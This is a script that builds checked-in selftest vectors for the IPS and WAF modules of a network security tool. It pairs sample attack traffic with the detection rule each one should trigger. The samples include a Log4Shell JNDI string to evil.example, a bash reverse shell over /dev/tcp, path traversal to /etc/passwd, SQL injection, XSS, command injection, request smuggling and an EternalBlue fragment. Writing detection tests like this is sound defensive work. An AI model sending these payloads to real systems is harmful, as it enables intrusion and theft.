// Writes modules/<id>/selftest.json: batches that a module must answer with exactly these rules before it may run anywhere.
// `node wasm/make-selftests.mjs [module ...]`, run by hand after changing what the modules find (after `tsc -b wasm`); the files are checked in, so that a build cannot
// agree with its own mistakes.
import { writeFile } from "node:fs/promises";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";
import { buildFrame } from "@secuxflow/testkit";
import { batchesOf, http, says, session } from "./dist/testing/harness.js";

const here = dirname(fileURLToPath(import.meta.url));
const get = (uri, headers) => http(`GET ${uri}`, headers);
const form = (body) => http("POST /login", { "Content-Type": "application/x-www-form-urlencoded" }, body);

/** A DNS question as a datagram. */
function dns(name, type = 1, dnsClass = 1) {
  const labels = name.split(".").flatMap((label) => [label.length, ...Buffer.from(label)]);
  const payload = Buffer.from([0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, ...labels, 0, 0, type, 0, dnsClass]);
  return { udp: { srcPort: 40000, dstPort: 53 }, payload };
}

const tests = {
  ips: [
    [
      "ordinary requests and a name looked up",
      [get("/search?q=O%27Reilly+union+station"), form("name=Jane&note=select+a+plan"), dns("www.example.com")],
      [],
      [],
    ],
    ["Log4Shell across a segment border", [get("/", { "X-Api-Version": "${jndi:ldap://evil.example/a}" })], [9100400], [180]],
    ["traversal, double-encoded, segments out of order", [get("/d?f=%252e%252e%252fetc/passwd")], [9100440], [10, 22], [2, 0, 1]],
    ["UNION in a form", [form("id=-1%20union+select+1%2C2")], [9100506], [200]],
    ["reverse shell", ["bash -i >& /dev/tcp/10.0.0.9/4444 0>&1\n"], [9100700], [14]],
    ["DNS server asked for its version", [dns("version.bind", 16, 3)], [9100030], []],
    ["EternalBlue's transaction", [Buffer.from("0000004eff534d4232000000001807c0000000", "hex")], [9100510], [7], undefined, 445],
  ],
  waf: [
    [
      "ordinary requests",
      [get("/search?q=O%27Reilly+union+station"), form("name=D%27Angelo&note=select+a+plan+--+please")],
      [],
      [],
    ],
    ["SQL injection across a segment border", [get("/item?id=1%27%20or%20%271%27%3D%271")], [9100002], [19]],
    [
      "script in a form, segments out of order",
      [form("a=1&b=%3Cscript%3Ealert(1)%3C/script%3E")],
      [9100101],
      [60, 240],
      [1, 2, 0],
    ],
    [
      "command injection in JSON",
      [http("POST /api", { "Content-Type": "application/json" }, '{"host":"127.0.0.1; cat /etc/hostname"}')],
      [9100401],
      [],
    ],
    [
      "request smuggling",
      ["POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"],
      [9101101],
      [],
    ],
  ],
};

const wanted = process.argv.slice(2);
for (const [module, list] of Object.entries(tests)) {
  if (wanted.length > 0 && !wanted.includes(module)) continue;
  const vectors = list.map(([name, messages, rules, splitAt, order, port = 80], i) => {
    const [client, server] = i % 2 === 0 ? ["192.0.2.7", "198.51.100.5"] : ["2001:db8::7", "2001:db8::5"];
    const packets = messages.flatMap((message, k) =>
      message.udp === undefined
        ? session(says(message, splitAt.length > 0 ? { splitAt, ...(order ? { order } : {}) } : {}), {
            client: { ip: client, port: 40000 + k },
            server: { ip: server, port },
          })
        : [{ frame: buildFrame({ [i % 2 === 0 ? "ipv4" : "ipv6"]: { src: client, dst: server }, ...message }) }],
    );
    const [batch, ...more] = batchesOf(packets, 1000);
    if (batch === undefined || more.length > 0) throw new Error(`${name} is not one batch`);
    return { name, batch: Buffer.from(batch).toString("hex"), rules };
  });
  await writeFile(join(here, "modules", module, "selftest.json"), `${JSON.stringify(vectors, null, 2)}\n`);
}
